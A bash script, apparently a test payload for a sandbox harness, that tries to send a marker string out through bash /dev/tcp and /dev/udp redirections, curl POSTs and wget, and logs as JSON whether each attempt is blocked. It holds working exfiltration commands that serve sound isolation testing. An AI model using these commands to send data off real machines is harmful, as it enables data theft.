#!/bin/bash
# Hostile payload (network): exfiltration the way a shell script does it: bash's /dev/tcp and
# /dev/udp redirections, curl and wget to http://TARGET/, to listeners the harness opened on the
# host (arguments: "ADDRESS:PORT" for TCP listeners, then "udp=ADDRESS:PORT" for UDP ones).
# The harness's listeners must see nothing; each attempt must fail.
# One JSON line per attempt: {"op": NAME, "target": T, "ret": EXIT, "errno": NAME} (errno from the
# tool's message; "SKIPPED" when the harness found no non-loopback host address).

errno_of() { # $1 = exit code, $2 = error text
    if [ "$1" = 0 ]; then echo OK; return; fi
    case "${2,,}" in
        *"permission denied"*) echo EACCES ;;
        *"network is unreachable"*) echo ENETUNREACH ;;
        *"connection refused"*|*"couldn't connect"*|*"failed to connect"*) echo ECONNREFUSED ;;
        *"operation not permitted"*) echo EPERM ;;
        *"timed out"*) echo ETIMEDOUT ;;
        *) echo OTHER ;;
    esac
}

report() { # op target rc text
    local text=${4//\"/\'}
    text=$(printf '%s' "$text" | tr -d '\n\\' | head -c 160)
    printf '{"op": "%s", "target": "%s", "ret": %d, "errno": "%s", "detail": "%s"}\n' \
        "$1" "$2" "$3" "$(errno_of "$3" "$4")" "$text"
}

for arg in "$@"; do
    case "$arg" in
    :*) # the harness had no non-loopback host address to offer
        for op in bash_dev_tcp curl wget; do
            printf '{"op": "%s", "target": "%s", "ret": 0, "errno": "SKIPPED"}\n' "$op" "$arg"
        done
        continue ;;
    udp=:*)
        printf '{"op": "bash_dev_udp_host", "target": "%s", "ret": 0, "errno": "SKIPPED"}\n' "$arg"
        continue ;;
    esac
    case "$arg" in
    udp=*)
        target=${arg#udp=}; host=${target%:*}; port=${target##*:}
        err=$( { echo "exfiltrated-by-hostile-payload" >"/dev/udp/$host/$port"; } 2>&1 ); rc=$?
        if [ "$host" = 127.0.0.1 ]; then op=bash_dev_udp_loopback; else op=bash_dev_udp_host; fi
        report "$op" "$target" "$rc" "$err"
        ;;
    *)
        target=$arg; host=${target%:*}; port=${target##*:}
        err=$( { exec 3<>"/dev/tcp/$host/$port" && echo "exfiltrated-by-hostile-payload" >&3; } 2>&1 ); rc=$?
        report bash_dev_tcp "$target" "$rc" "$err"
        # -v: curl's own message hides the errno ("Couldn't connect"), its trace names it
        err=$(curl -v -sS --max-time 3 --data "exfiltrated" "http://$target/" 2>&1 >/dev/null); rc=$?
        err=$(printf '%s' "$err" | grep -iE 'fail|denied|unreach|refused' | head -n 2)
        report curl "$target" "$rc" "$err"
        err=$(wget -q -T 3 -t 1 -O /dev/null "http://$target/" 2>&1); rc=$?
        # wget -q prints nothing: rerun verbose for the reason when it failed
        [ "$rc" != 0 ] && err=$(wget -T 3 -t 1 -O /dev/null "http://$target/" 2>&1 | tail -n 3)
        report wget "$target" "$rc" "$err"
        ;;
    esac
done
